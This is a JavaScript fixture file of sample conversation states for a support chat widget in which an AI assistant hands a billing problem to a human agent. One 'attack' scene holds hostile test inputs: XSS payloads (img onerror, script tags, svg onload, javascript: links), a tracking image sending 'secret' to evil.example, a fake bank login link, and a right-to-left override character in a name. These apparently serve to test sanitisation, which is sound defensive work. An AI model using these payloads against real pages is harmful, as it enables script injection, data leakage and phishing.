// Fixed moments of a conversation, one per state of the widget: site key `scene-NAME` shows them.
const T0 = Date.now() - 6 * 60_000;
const MAYA = { name: "Maya", squad: "Billing" };

let seq = 0;
const at = () => ({ seq: ++seq, at_ms: T0 + seq * 25_000 });
const customer = (text) => ({ kind: "message", ...at(), role: "customer", text });
const assistant = (text, citations) => ({ kind: "message", ...at(), role: "assistant", text, citations });
const agent = (text) => ({ kind: "message", ...at(), role: "agent", text, agent: MAYA });
const notice = (what, text) => ({ kind: "notice", ...at(), what, text });
const event = (what, text) => ({ kind: "event", ...at(), what, text, agent: MAYA });

export const STATE = {
  state: "ai", assistant_name: "Tide", organisation_name: "Tidewater", choices: [], ask_rating: false, ask_contact: false,
};

const start = () => [
  customer("My payment failed again. The invoice is TW-20931."),
  assistant("Most failed payments come down to one of three things:\n\n- the card has **expired**\n- the bank asks for a confirmation that nobody saw\n- the monthly limit is reached\n\nYou can try another card under *Settings, Billing*.",
    [{ id: "a1", title: "Why a payment fails", url: "help.html#payments" }, { id: "a2", title: "Change the card on your account" }]),
];
const angry = () => [...start(), customer("This is the third time this month, and I am close to cancelling.")];
const announced = () => [...angry(),
  notice("announced", "Because this needs someone who can look at the charges, I’m connecting you with **Billing**. They get everything we discussed, so there is nothing to repeat.")];
const joined = () => [...announced(), event("joined", "Maya read your conversation and joined"),
  agent("Hi Dana, I can see TW-20931 failed again this morning, even with the new card. Let me look at what the bank is telling us."),
  customer("Thank you. Finally."),
  agent("Your bank declines this card type, not the amount. I’ve put a payment link here, valid until Friday: https://pay.tidewater.example/l/20931\n\nNothing will be switched off meanwhile.")];

const choices = [
  { kind: "email", label: "Answer me by e-mail instead" },
  { kind: "callback", label: "Get back to me at a time I choose" },
  { kind: "keep_waiting", label: "I’ll keep waiting" },
  { kind: "article", label: "Try: when a bank says “do not honor”", article: { id: "a3", title: "Do not honor", url: "help.html#do-not-honor" } },
];

const scene = (items, state = {}, extra = {}) => {
  seq = 0;
  const list = items();
  return { seq: list.at(-1)?.seq ?? 0, items: list, state: { ...STATE, ...state }, ...extra };
};

export const SCENES = {
  answer: scene(start),
  writing: scene(() => [customer("How do I add a second location?")], {}, { delta: "You can add locations under **Settings, Locations**. Each location has its own" }),
  typing: scene(() => [customer("How do I add a second location?")], {}, { typing: "assistant" }),
  proposal: scene(() => [...angry(), { kind: "proposal", ...at(), open: true, text: "I can’t see the charges on your account, but a colleague in billing can. Shall I connect you? They will see this conversation." }], { state: "proposed" }),
  announced: scene(announced, { state: "requested" }),
  wait: scene(announced, { state: "queued", choices, wait: { since_ms: Date.now() - 130_000, place: 2, low_s: 60, high_s: 180, squad: "Billing" } }),
  unknown: scene(announced, { state: "queued", choices, wait: { since_ms: Date.now() - 20_000, place: 1, squad: "Billing" } }),
  reading: scene(announced, { state: "preparing", preparing: true, agent: MAYA }),
  human: scene(joined, { state: "human", agent: MAYA }),
  agenttyping: scene(joined, { state: "human", agent: MAYA }, { typing: "agent" }),
  later: scene(() => [...angry(), notice("ticketed", "Our billing team is asleep. I have written everything down for them as request **4821**, so you won’t have to explain it again.")],
    { state: "ticketed", ask_contact: true, ticket: { id: "4821", due_at_ms: Date.now() + 4e7, due_text: "Saturday, 09:30 your time" } }),
  choose: scene(() => [...angry(), notice("ticketed", "Our billing team is asleep. I have written everything down for them as request **4821**, so you won’t have to explain it again.")],
    { state: "ticketed", choices: choices.slice(1), ticket: { id: "4821", due_at_ms: Date.now() + 4e7, due_text: "Saturday 09:30" } }),
  callback: scene(() => [...angry(), notice("callback", "Agreed: we get back to you Monday 14:30–15:00. Your place is kept, and whoever it is will have read everything.")],
    { state: "callback", callback: { from_ms: Date.now() + 4e7, until_ms: Date.now() + 4.2e7, text: "Monday 14:30–15:00", elsewhere: false } }),
  elsewhere: scene(() => [...angry(), notice("ticketed", "Our billing team is asleep. I have written everything down for them as request **4821**, so you won’t have to explain it again.")],
    { state: "ticketed", choices: choices.slice(1), callback: { from_ms: Date.now() + 4e7, until_ms: Date.now() + 4.2e7, text: "Monday 14:30–15:00", elsewhere: true },
      ticket: { id: "4821", due_at_ms: Date.now() + 4e7, due_text: "Saturday 09:30" } }),
  stays: scene(announced, { state: "queued", choices: choices.slice(0, 2),
    wait: { since_ms: Date.now() - 130_000, place: 1, squad: "Billing", note: "You stay in line, and your place is kept. The team is back Monday 09:00." } }),
  promised: scene(() => [...angry(), notice("ticketed", "Our billing team is asleep. I have written everything down for them as request **4821**, so you won’t have to explain it again.")],
    { state: "ticketed", ticket: { id: "4821", due_at_ms: Date.now() + 4e7, due_text: "Saturday, 09:30 your time" } }),
  ended: scene(() => [...joined(), customer("That worked, thank you!"), agent("Glad to hear it. Have a good weekend, Dana!"), notice("ended", "Maya closed this conversation. You can write here at any time to open it again.")],
    { state: "resolved", agent: MAYA, ask_rating: true }),
  returned: scene(() => [...joined(), event("left", "Maya left the conversation"), notice("returned", "The payment link is sent and nothing will be switched off. I’m the assistant again; ask me anything else."),
    customer("How long is the link valid?"), assistant("Maya’s link is valid until **Friday, 18:00**.")], { state: "returned" }),
  attack: scene(() => [
    customer("<img src=x onerror=alert(1)> see javascript:alert(1) and https://tidewater.example/ok"),
    assistant("![tracker](https://evil.example/p.png?q=secret) [click](javascript:alert(1)) [data](data:text/html,x) <script>alert(1)</script>\n\n[your bank](https://evil.example/login) [ref][1]\n\n[1]: https://evil.example/ref\n\nhttps://user:pw@evil.example/ ok"),
    { ...agent("**unclosed [x](http://a.example/" + "A".repeat(200) + ") `code <b>`"), agent: { name: "<b>Eve</b>\u202Egnp", squad: "\"><svg onload=alert(1)>" } },
  ]),
  long: scene(() => [...joined(), ...joined(), ...joined()].map((item, index) => ({ ...item, seq: index + 1 })), { state: "human", agent: MAYA }),
  arabic: scene(() => [
    customer("فشلت عملية الدفع مرة أخرى. رقم الفاتورة TW-20931."),
    assistant("غالبًا ما يكون السبب انتهاء صلاحية البطاقة أو رفض البنك. يمكنك تغيير البطاقة من **الإعدادات**.", [{ id: "a1", title: "لماذا تفشل عملية الدفع" }]),
    customer("هذه هي المرة الثالثة!"),
    notice("announced", "لأن هذا يحتاج إلى شخص يمكنه مراجعة الرسوم، سأوصلك بفريق الفوترة. سيرى كل ما ناقشناه."),
  ], { state: "queued", assistant_name: "تايد", choices: [{ kind: "email", label: "أجيبوني بالبريد الإلكتروني" }, { kind: "keep_waiting", label: "سأنتظر" }],
    wait: { since_ms: Date.now() - 130_000, place: 2, low_s: 60, high_s: 180, squad: "الفوترة" } }),
};
